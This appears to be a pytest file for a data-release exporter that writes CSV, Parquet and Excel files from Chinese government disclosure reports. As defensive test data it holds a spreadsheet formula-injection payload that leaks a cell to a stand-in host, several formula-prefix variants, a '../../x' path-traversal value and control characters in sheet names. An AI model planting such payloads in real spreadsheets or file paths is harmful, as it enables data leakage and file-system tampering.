"""A release as those meet it who open it without gongkai: pandas, Excel, sha256sum."""

from __future__ import annotations

import csv
import hashlib
import json
from pathlib import Path
from typing import Any

import duckdb
import openpyxl
import pandas as pd
import pytest

from export.form_sheet import UNIT, wide
from export.release import NotExported, export, releases
from export.workbooks import NOT_RECEIVED, sheet_name
from findings.record import record
from tests.unit.findings.plain_rule import ONE_CELL, plain
from tests.unit.warehouse.small_build import Small, make

FORMULA = '=HYPERLINK("http://x.example/?"&A1)'
HOSTILE = (FORMULA, "+1+1", "-2+3", "@SUM(A1)", "＝1+1", "\t=1", "\r=1")
HARMLESS = ("减1237", "-5", "+3.5", "0%", "a=b", "")


def build(folder: Path, asked: str = "7", extra: tuple[str, ...] = ()) -> Path:
    """Two offices, one of them with a hostile name, and a finding on the requests of the first."""
    draft = make(
        folder,
        Small(
            1,
            2021,
            printed={
                "t3.requests_new.total": asked,
                "t3.granted.total": "/",
                "t2.government_rules.issued": "?",
            },
        ),
        Small(2, 2022),
        offices={
            1: {"name": "青禾县民政局", "province": "某省", "county": "青禾县"},
            2: {"name": FORMULA, "county": "../../x"},
        },
    )
    hostile = plain(ONE_CELL, severity="error", message_zh=FORMULA, message_en="not 0")
    record(draft, {hostile.code: hostile})
    with duckdb.connect(str(draft)) as connection:
        for i, text in enumerate(extra):
            connection.execute("INSERT INTO sections VALUES (2, 2022, 'overview', ?, ?)", [text, 100 + i])
        connection.execute(
            "UPDATE requests SET text = ?, value = NULL, status = 'unreadable'"
            " WHERE office_id = 2 AND outcome = 'granted' AND applicant = 'total'",
            [FORMULA],
        )
    return draft


def test_a_release_is_whole_and_its_checksums_hold(tmp_path: Path) -> None:
    release = export(build(tmp_path / "one"), tmp_path / "out")
    sums = dict(line.split("  ", 1)[::-1] for line in (release / "SHA256SUMS").read_text().splitlines())
    files = {p.relative_to(release).as_posix() for p in release.rglob("*") if p.is_file()} - {"SHA256SUMS"}
    assert set(sums) == files
    assert {"README.md", "CHANGES.md", "data-dictionary.md", "datapackage.json"} <= files
    for name, digest in sums.items():
        assert hashlib.sha256((release / name).read_bytes()).hexdigest() == digest
    assert [p.name for p in (tmp_path / "out").iterdir()] == [release.name]  # no draft is left
    with pytest.raises(NotExported, match="exported already"):
        export(tmp_path / "one" / "draft.duckdb", tmp_path / "out")


def test_a_release_that_breaks_off_leaves_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def full(*_: Any) -> None:
        raise OSError("No space left on device")

    monkeypatch.setattr("export.release.write_workbook", full)
    with pytest.raises(NotExported, match="No space left"):
        export(build(tmp_path / "one"), tmp_path / "out")
    assert list((tmp_path / "out").iterdir()) == []


def test_a_folder_that_cannot_be_written_is_told(tmp_path: Path) -> None:
    (tmp_path / "out").write_text("a file")
    with pytest.raises(NotExported, match="cannot be written"):
        export(build(tmp_path / "one"), tmp_path / "out")
    (tmp_path / "damaged.duckdb").write_bytes(b"no database" * 1000)
    with pytest.raises(NotExported, match=r"damaged\.duckdb"):
        export(tmp_path / "damaged.duckdb", tmp_path / "other")


def test_parquet_and_csv_hold_the_same_rows_blank_and_nil_apart(tmp_path: Path) -> None:
    release = export(build(tmp_path / "one"), tmp_path / "out", "none")
    parquet = pd.read_parquet(release / "parquet" / "requests")
    assert sorted(p.name for p in (release / "parquet" / "requests").iterdir()) == ["year=2021", "year=2022"]
    listed = pd.read_csv(release / "csv" / "requests.csv")  # as people do it: the mark in front does no harm
    assert next(iter(listed.columns)) == "office_id"
    assert len(parquet) == len(listed) == 2 * 175
    cell = "office_id == 1 and outcome == 'granted' and applicant == 'total'"
    for frame in (parquet, listed):
        (found,) = frame.query(cell).to_dict("records")
        assert (found["status"], found["text"], pd.isna(found["value"])) == ("slash", "/", True)


def test_the_package_describes_every_csv(tmp_path: Path) -> None:
    release = export(build(tmp_path / "one"), tmp_path / "out", "none")
    package = json.loads((release / "datapackage.json").read_text(encoding="utf-8"))
    assert {r["path"] for r in package["resources"]} == {f"csv/{p.name}" for p in (release / "csv").iterdir()}
    for resource in package["resources"]:
        with (release / resource["path"]).open(encoding=resource["encoding"], newline="") as file:
            rows = list(csv.reader(file))
        assert rows[0] == [field["name"] for field in resource["schema"]["fields"]]
        assert len(rows) - 1 == resource["rows"]
        assert set(resource["schema"].get("primaryKey", [])) <= set(rows[0])


def test_no_text_becomes_a_formula(tmp_path: Path) -> None:
    release = export(build(tmp_path / "one", extra=(*HOSTILE, *HARMLESS)), tmp_path / "out")
    with (release / "csv" / "sections.csv").open(encoding="utf-8-sig", newline="") as file:
        texts = [row["text"] for row in csv.DictReader(file)]
    assert [t for t in texts if t.startswith("'")] == [f"'{text}" for text in HOSTILE]
    assert set(HARMLESS) <= set(texts)
    assert set(HOSTILE) <= set(pd.read_parquet(release / "parquet" / "sections")["text"])  # as printed
    for path in (release / "workbooks").rglob("*.xlsx"):
        for sheet in openpyxl.load_workbook(path):
            assert not [c.coordinate for row in sheet for c in row if c.data_type == "f"]


def test_workbooks_stay_in_their_folder_and_bear_findings_as_notes(tmp_path: Path) -> None:
    release = export(build(tmp_path / "one"), tmp_path / "out")
    found = sorted(
        p.relative_to(release / "workbooks").as_posix() for p in (release / "workbooks").rglob("*.xlsx")
    )
    assert len(found) == 2 and not [name for name in found if ".." in name]
    book = openpyxl.load_workbook(release / "workbooks" / next(n for n in found if "青禾县民政局" in n))
    assert book.sheetnames == ["目录 Contents", "2021 青禾县民政局"]
    page = book["2021 青禾县民政局"]
    cells = [c for row in page for c in row]
    (noted,) = [c for c in cells if c.comment]
    assert noted.value == 7 and FORMULA in noted.comment.text
    values = [c.value for c in cells]
    assert {"（一）予以公开", "法律服务机构", "未经复议直接起诉", "/", "？"} <= set(values)
    merged = {str(r) for r in page.merged_cells.ranges}
    assert len(merged) > 30


def test_the_contents_list_every_finding_with_a_link_to_its_cell(tmp_path: Path) -> None:
    release = export(build(tmp_path / "one"), tmp_path / "out")
    (path,) = (release / "workbooks").rglob("青禾县民政局*.xlsx")
    book = openpyxl.load_workbook(path)
    contents, page = book.worksheets
    listed = [[cell.value for cell in row] for row in contents]
    assert listed[1][:6] == ["青禾县民政局", "某省 青禾县", 2021, "完整 parsed", 1, 1]
    (row,) = [r for r in contents if r[4].value and FORMULA in str(r[4].value)]
    _, _, target = row[1].hyperlink.location.rpartition("!")
    assert page[target].value == 7 and page[target].comment  # the cell that the finding is about
    for sheet in book:
        assert (sheet.page_setup.paperSize, sheet.page_setup.fitToHeight) == (9, 0)
        assert sheet.freeze_panes and sheet.sheet_properties.pageSetUpPr.fitToPage


def test_labels_are_whole_in_their_cells(tmp_path: Path) -> None:
    release = export(build(tmp_path / "one"), tmp_path / "out")
    (path,) = (release / "workbooks").rglob("青禾县民政局*.xlsx")
    page = openpyxl.load_workbook(path).worksheets[1]
    across = {str(r).partition(":")[0]: r for r in page.merged_cells.ranges}
    for cell in (c for row in page.iter_rows(min_row=4) for c in row if isinstance(c.value, str)):
        merged = across.get(cell.coordinate)
        columns = merged.size["columns"] if merged else 1
        rows = range(cell.row, cell.row + (merged.size["rows"] if merged else 1))
        if cell.font.b:
            continue  # the title of a table runs over the empty cells beside it
        points = sum(page.row_dimensions[row].height or 15 for row in rows)
        lines = -(-wide(cell.value) // (columns * UNIT))
        assert lines * 12 <= points, cell.value


@pytest.mark.parametrize(
    ("wanted", "name"),
    [
        ("2021 某局", "2021 某局"),
        ("2021 [某]:局*?/\\'", "2021  某  局"),
        ("2021 某\x07\x1b[31m局\u202e", "2021 某   31m局"),
        ("\x00\x01", "报告"),
        ("某" * 40, "某" * 31),
    ],
    ids=["plain", "forbidden", "control", "nothing-left", "long"],
)
def test_names_of_sheets_are_what_excel_takes(wanted: str, name: str) -> None:
    taken: set[str] = set()
    assert sheet_name(wanted, taken) == name
    assert sheet_name(wanted, taken) == f"{name[:29]} 2"


def test_a_county_is_one_workbook_with_what_is_due_and_what_was_not_read(tmp_path: Path) -> None:
    draft = build(tmp_path / "one")
    with duckdb.connect(str(draft)) as connection:
        connection.execute(
            "INSERT INTO offices BY NAME SELECT 3 AS office_id, '教育局' AS name, '某省' AS province,"
            " '青禾县' AS county, 'resolved' AS resolution"
        )
        connection.execute(
            "INSERT INTO due_reports BY NAME SELECT 3 AS office_id, 2022 AS year, 'roster' AS basis"
        )
        connection.execute(
            "INSERT INTO reports BY NAME FROM (SELECT * REPLACE (77 AS report_id, 3 AS office_id, 'x.pdf' AS"
            " raw_path, 'quarantined' AS status, 2021 AS year) FROM reports WHERE office_id = 1)"
        )
    release = export(draft, tmp_path / "out", "county")
    contents = openpyxl.load_workbook(release / "workbooks/某省/青禾县.xlsx").worksheets[0]
    lines = [[cell.value for cell in row] for row in contents][1:5]
    assert [line[:4] for line in lines] == [
        ["青禾县民政局", "某省 青禾县", 2021, "完整 parsed"],
        ["教育局", "某省 青禾县", 2022, NOT_RECEIVED],
        ["青禾县民政局", "某省 青禾县", 2022, NOT_RECEIVED],
        ["教育局", "某省 青禾县", 2021, "未能读取 quarantined"],
    ]
    assert lines[3][6] == "x.pdf"


def test_the_next_release_says_what_it_changes(tmp_path: Path) -> None:
    first = export(build(tmp_path / "one"), tmp_path / "out", "none")
    second = export(build(tmp_path / "two", "9"), tmp_path / "out", "none")
    assert releases(tmp_path / "out") == [second, first]
    words = (second / "CHANGES.md").read_text(encoding="utf-8")
    assert first.name in words and "Values changed: 1" in words
    (change,) = pd.read_csv(second / "changes.csv").to_dict("records")
    assert (change["cell"], change["value_before"], change["value"]) == ("t3.requests_new.total", 7, 9)
